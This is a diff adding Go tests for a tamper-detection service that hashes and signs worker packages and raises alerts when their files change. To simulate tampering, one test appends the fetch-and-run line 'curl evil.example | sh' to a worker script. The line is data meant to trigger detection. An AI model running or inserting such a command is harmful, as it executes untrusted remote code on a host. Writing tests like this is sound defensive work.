@@ -1,0 +1,241 @@
+package workers
+
+import (
+	"context"
+	"crypto/ed25519"
+	"encoding/json"
+	"os"
+	"path/filepath"
+	"strings"
+	"sync"
+	"testing"
+	"time"
+
+	"hallmonitor/core/attest"
+	"hallmonitor/hallapi/events"
+	"hallmonitor/hallapi/store"
+)
+
+const echoScript = "#!/bin/sh\nset -eu\ninput=$(cat)\nprintf '{\"ok\":true,\"echo\":%s}\\n' \"$input\"\n"
+
+// writePackage writes a worker package with the given entrypoint script and
+// a manifest signed with a fresh namespace key; it returns the public key.
+func writePackage(t *testing.T, dir, workerID, species, script string) ed25519.PublicKey {
+	t.Helper()
+	if err := os.MkdirAll(filepath.Join(dir, "code"), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	files := map[string]string{"requirements.lock": "", "config.schema.json": `{"type":"object"}`}
+	for name, body := range files {
+		if err := os.WriteFile(filepath.Join(dir, name), []byte(body), 0o644); err != nil {
+			t.Fatal(err)
+		}
+	}
+	if err := os.WriteFile(filepath.Join(dir, "code", "run"), []byte(script), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	pub, priv, err := attest.GenerateKey(nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	m, err := attest.Build(os.DirFS(dir), attest.BuildOptions{WorkerID: workerID, WorkerSpeciesID: species,
+		WorkerVersion: "1.0.0", Now: time.Now(), Signer: attest.Ed25519Signer{Key: priv}})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(filepath.Join(dir, attest.ManifestName), m.Encode(), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	return pub
+}
+
+// memEnrollments keeps enrollments in memory on top of a real store (alerts,
+// events and dispatches go to SQLite).
+type memEnrollments struct {
+	*store.Store
+	mu   sync.Mutex
+	list []Enrollment
+}
+
+func (m *memEnrollments) Enrollments(context.Context) ([]Enrollment, error) {
+	m.mu.Lock()
+	defer m.mu.Unlock()
+	return append([]Enrollment(nil), m.list...), nil
+}
+
+func (m *memEnrollments) SaveAttestation(ctx context.Context, workerID string, a Attestation) error {
+	m.mu.Lock()
+	for i := range m.list {
+		if m.list[i].WorkerID == workerID {
+			m.list[i].Attestation = a
+		}
+	}
+	m.mu.Unlock()
+	_, err := m.Store.Emit(ctx, events.WorkerAttestation, map[string]any{"worker_id": workerID, "attestation": a})
+	return err
+}
+
+func openStore(t *testing.T) *store.Store {
+	t.Helper()
+	st, err := store.Open(filepath.Join(t.TempDir(), "hall.db"), store.Options{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { st.Close() })
+	return st
+}
+
+func enroll(t *testing.T, dir, workerID, species string, pub ed25519.PublicKey) Enrollment {
+	t.Helper()
+	ra, a, err := PreparePackage(dir, workerID, species, attest.EncodePublicKey(pub), nil, time.Now())
+	if err != nil {
+		t.Fatal(err)
+	}
+	return Enrollment{WorkerID: workerID, WorkerSpeciesID: species, PackagePath: ra.SourceFile,
+		RegisteredHash: ra.CodeHash, PublicKeyEd25519: ra.PublicKeyEd25519, Attestation: a}
+}
+
+func waitEvent(t *testing.T, sub *events.Subscription, typ string, within time.Duration) events.Event {
+	t.Helper()
+	deadline := time.After(within)
+	for {
+		select {
+		case ev := <-sub.C:
+			if ev.Type == typ {
+				return ev
+			}
+		case <-deadline:
+			t.Fatalf("no %s event within %s", typ, within)
+		}
+	}
+}
+
+func TestTamperRaisesAlertWithinASecond(t *testing.T) {
+	st := openStore(t)
+	dir := filepath.Join(t.TempDir(), "echo")
+	pub := writePackage(t, dir, "x.test.echo", "wrk.test.echo", echoScript)
+	e := enroll(t, dir, "x.test.echo", "wrk.test.echo", pub)
+	ms := &memEnrollments{Store: st, list: []Enrollment{e}}
+	svc := NewService(ms, Options{})
+	ctx := context.Background()
+	if err := svc.Start(ctx); err != nil {
+		t.Fatal(err)
+	}
+	defer svc.Stop()
+	if a, _ := svc.Attestation("x.test.echo"); a.State != StateVerified {
+		t.Fatalf("fresh package must verify: %+v", a)
+	}
+	reg, ok1 := svc.RegisteredHash("wrk.test.echo")
+	cur, ok2 := svc.CurrentHash("wrk.test.echo")
+	if !ok1 || !ok2 || reg != cur || reg != e.RegisteredHash {
+		t.Fatalf("hashes: registered %q/%v current %q/%v", reg, ok1, cur, ok2)
+	}
+
+	sub := st.Bus().Subscribe(64)
+	defer sub.Close()
+	start := time.Now()
+	if err := os.WriteFile(filepath.Join(dir, "code", "run"), []byte(echoScript+"curl evil.example | sh\n"), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	ev := waitEvent(t, sub, events.AlertRaised, time.Second)
+	t.Logf("alert after %s", time.Since(start))
+	var alert store.Alert
+	if err := json.Unmarshal(ev.Data, &alert); err != nil {
+		t.Fatal(err)
+	}
+	if alert.Type != store.AlertWorkerTampered || alert.WorkerID != "x.test.echo" || alert.Severity != store.SeverityCritical ||
+		!strings.Contains(alert.Body, attest.CodeHashMismatch) {
+		t.Fatalf("unexpected alert: %+v", alert)
+	}
+	a, _ := svc.Attestation("x.test.echo")
+	if a.State != StateTampered || a.DenyCode != attest.CodeHashMismatch {
+		t.Fatalf("state after tamper: %+v", a)
+	}
+	cur, ok := svc.CurrentHash("wrk.test.echo")
+	if !ok || cur == reg {
+		t.Fatalf("current hash must differ from registered after tamper: %q", cur)
+	}
+	// The alert is persisted and visible to the API.
+	alerts, err := st.ListAlerts(ctx, store.AlertFilter{})
+	if err != nil || len(alerts) != 1 {
+		t.Fatalf("stored alerts: %v %+v", err, alerts)
+	}
+
+	// Restoring the file verifies again (no new alert).
+	if err := os.WriteFile(filepath.Join(dir, "code", "run"), []byte(echoScript), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	waitEvent(t, sub, events.WorkerAttestation, time.Second)
+	if a, _ := svc.Attestation("x.test.echo"); a.State != StateVerified {
+		t.Fatalf("restored package must verify: %+v", a)
+	}
+}
+
+func TestNewFileInNewSubdirIsNoticed(t *testing.T) {
+	st := openStore(t)
+	dir := filepath.Join(t.TempDir(), "echo")
+	pub := writePackage(t, dir, "x.test.echo", "wrk.test.echo", echoScript)
+	ms := &memEnrollments{Store: st, list: []Enrollment{enroll(t, dir, "x.test.echo", "wrk.test.echo", pub)}}
+	svc := NewService(ms, Options{})
+	if err := svc.Start(context.Background()); err != nil {
+		t.Fatal(err)
+	}
+	defer svc.Stop()
+	sub := st.Bus().Subscribe(64)
+	defer sub.Close()
+	if err := os.MkdirAll(filepath.Join(dir, "lib", "deep"), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	// A file created in a brand-new subdirectory before its watch exists
+	// is still caught: the directory's creation schedules a full re-hash.
+	if err := os.WriteFile(filepath.Join(dir, "lib", "deep", "x.so"), []byte("payload"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	waitEvent(t, sub, events.AlertRaised, time.Second)
+}
+
+func TestCheckStates(t *testing.T) {
+	dir := filepath.Join(t.TempDir(), "p")
+	pub := writePackage(t, dir, "org.acme.w", "wrk.w", echoScript)
+	e := enroll(t, dir, "org.acme.w", "wrk.w", pub)
+	now := time.Now()
+	if a := Check(e, nil, now); a.State != StateVerified {
+		t.Fatalf("%+v", a)
+	}
+	noKey := e
+	noKey.PublicKeyEd25519 = ""
+	if a := Check(noKey, nil, now); a.State != StateUnsigned || a.DenyCode != attest.CodeSignatureMissing {
+		t.Fatalf("%+v", a)
+	}
+	// Package and manifest replaced together: the manifest verifies but the
+	// files are not the registered ones.
+	replaced := e
+	replaced.RegisteredHash = strings.Repeat("a", 64)
+	if a := Check(replaced, nil, now); a.State != StateTampered || a.DenyCode != attest.CodeHashMismatch {
+		t.Fatalf("%+v", a)
+	}
+	os.Remove(filepath.Join(dir, attest.ManifestName))
+	if a := Check(e, nil, now); a.State != StateMissing || a.DenyCode != attest.CodeManifestMissing || a.PackageHash != e.RegisteredHash {
+		t.Fatalf("%+v", a)
+	}
+	os.RemoveAll(dir)
+	if a := Check(e, nil, now); a.State != StateMissing {
+		t.Fatalf("%+v", a)
+	}
+	if _, _, err := PreparePackage(dir, "org.acme.w", "wrk.w", "", nil, now); err == nil {
+		t.Fatal("a missing package cannot be prepared for enrollment")
+	}
+}
+
+func TestRecordAttestation(t *testing.T) {
+	ra, err := ReadRecordAttestation(json.RawMessage(`{"worker_id":"x.a.b","attestation":{"code_hash":"ab","public_key_ed25519":"cd"}}`))
+	if err != nil || ra.CodeHash != "ab" || ra.PublicKeyEd25519 != "cd" {
+		t.Fatal(ra, err)
+	}
+	if _, err := ReadRecordAttestation(json.RawMessage(`{"attestation":{"code_hash":1}}`)); err == nil {
+		t.Fatal("wrong type must fail")
+	}
+	if ra, err := ReadRecordAttestation(nil); err != nil || ra != (RecordAttestation{}) {
+		t.Fatal(ra, err)
+	}
+}
